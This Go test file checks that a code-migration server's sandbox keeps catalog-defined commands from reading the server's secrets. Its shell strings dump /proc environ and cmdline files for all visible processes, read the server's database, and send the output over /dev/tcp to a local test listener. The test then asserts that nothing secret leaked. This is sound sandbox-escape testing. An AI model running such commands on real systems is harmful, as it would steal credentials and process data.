package main

import (
	"encoding/json"
	"io"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tandem-dev/tandem/gitx/gittest"
	"github.com/tandem-dev/tandem/proc/proctest"
)

// commandFlags returns the flags serve needs to run command checks and
// fixes on this machine: none where a sandbox can be made, and
// --unsandboxed-commands where not (proctest.Runner fails the test
// instead when TANDEM_REQUIRE_SANDBOX=1).
func commandFlags(t *testing.T) []string {
	t.Helper()
	if proctest.Runner(t).Unsandboxed {
		return []string{"--unsandboxed-commands"}
	}
	return nil
}

// TestCommandsCannotReachTheServer runs a server as a user does, in a
// process of its own with secrets in its environment (the bootstrap
// token, a code host's token), on a SQLite file, with a catalog whose
// platform's command check and migration's fix try to read the server:
// its environment and command line through /proc, every process they
// can see, and its database. The check sends what it read to the test
// over the network, which the sandbox shares; the fix commits it to its
// branch. Neither holds a secret. Both leave a process in a session of
// its own (setsid), and neither process is left once the scan and the
// escalation are over.
func TestCommandsCannotReachTheServer(t *testing.T) {
	t.Parallel()
	proctest.RequireSandbox(t)
	secret := "tandem-e2e-secret-" + strconv.Itoa(os.Getpid())

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	var sent syncBuffer
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_, _ = io.Copy(&sent, c)
			}()
		}
	}()

	root := t.TempDir()
	db := filepath.Join(root, "tandem.db")
	repo := filepath.Join(root, "repos", "api")
	gittest.Init(t, repo, map[string]string{"main.go": logrusImport, "CODEOWNERS": "* @acme/payments\n"})
	checkMarker, fixMarker := proctest.Marker(), proctest.Marker()
	// read writes to ./leak all a command finds of the server; $1 is the
	// server's database.
	read := `{ echo "ran in $PWD"; cat /proc/$PPID/environ /proc/$PPID/cmdline /proc/1/environ /proc/1/cmdline; ` +
		`for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f"; echo; done; head -c 64 "$1"; } > leak 2>&1; `
	check := read + "setsid sleep " + checkMarker + " >/dev/null 2>&1 & cat leak > /dev/tcp/127.0.0.1/" + strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	fix := read + "setsid sleep " + fixMarker + " >/dev/null 2>&1 & sed -i 's#github.com/sirupsen/logrus#acme.dev/obslog#' main.go"
	file := filepath.Join(root, "catalog", "catalog.yaml")
	writeFile(t, file, `apiVersion: tandem.dev/v1
kind: Team
metadata: {name: payments}
spec: {type: stream-aligned}
---
apiVersion: tandem.dev/v1
kind: Team
metadata: {name: observability}
spec: {type: platform, members: [carol]}
---
apiVersion: tandem.dev/v1
kind: CodeHost
metadata: {name: acme}
spec: {type: local, path: ../repos}
---
apiVersion: tandem.dev/v1
kind: Codebase
metadata: {name: api}
spec: {contributions: open}
---
apiVersion: tandem.dev/v1
kind: Platform
metadata: {name: obslog}
spec:
  owner: observability
  adoption: {command: `+yamlList(t, "bash", "-c", check, "bash", db)+`}
---
apiVersion: tandem.dev/v1
kind: Migration
metadata: {name: logrus-to-obslog}
spec:
  platform: obslog
  title: Replace logrus with obslog
  target: {path: "**/*.go", contains: '"github.com/sirupsen/logrus"'}
  fix:
    run: `+yamlList(t, "sh", "-c", fix, "sh", db)+`
    branch: tandem/logrus-to-obslog
    title: Replace logrus with obslog
`)
	url, _ := startProcess(t, "sqlite://"+db, filepath.Join(root, "mirrors"), "FORGE_TOKEN="+secret)
	secrets := map[string]string{
		"a token in the server's environment": secret,
		"the bootstrap token":                 testAdminToken,
		"the server's command line":           "--scan-every",
		"the server's database":               "SQLite format 3",
	}

	applyAndScan(t, url, file)
	if pids := proctest.Survivors(t, checkMarker); len(pids) > 0 {
		t.Errorf("the check's sleep %s still runs after the scan: %v", checkMarker, pids)
	}
	deadline := time.Now().Add(10 * time.Second)
	for !strings.Contains(sent.String(), "ran in") && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	if !strings.Contains(sent.String(), "ran in") {
		t.Fatalf("the check sent nothing: %q", sent.String())
	}
	for what, s := range secrets {
		if strings.Contains(sent.String(), s) {
			t.Errorf("the check read %s:\n%s", what, sent.String())
		}
	}

	for _, args := range [][]string{{"campaign", "launch", "logrus-to-obslog"}, {"campaign", "escalate", "logrus-to-obslog"}} {
		code, out, errOut := tandemCLI(t, url, args...)
		if code != 0 {
			t.Fatalf("%v exited %d: %s", args, code, errOut)
		}
		if args[1] == "escalate" && !strings.Contains(out, "api: change-request") {
			t.Fatalf("escalate did not propose the fix:\n%s", out)
		}
	}
	if pids := proctest.Survivors(t, fixMarker); len(pids) > 0 {
		t.Errorf("the fix's sleep %s still runs after the escalation: %v", fixMarker, pids)
	}
	leak := gittest.Run(t, repo, "show", "tandem/logrus-to-obslog:leak")
	if !strings.Contains(leak, "ran in") {
		t.Fatalf("the fix read nothing: %q", leak)
	}
	for what, s := range secrets {
		if strings.Contains(leak, s) {
			t.Errorf("the fix read %s:\n%s", what, leak)
		}
	}
}

// yamlList returns args as a YAML flow sequence (JSON is YAML).
func yamlList(t *testing.T, args ...string) string {
	t.Helper()
	b, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
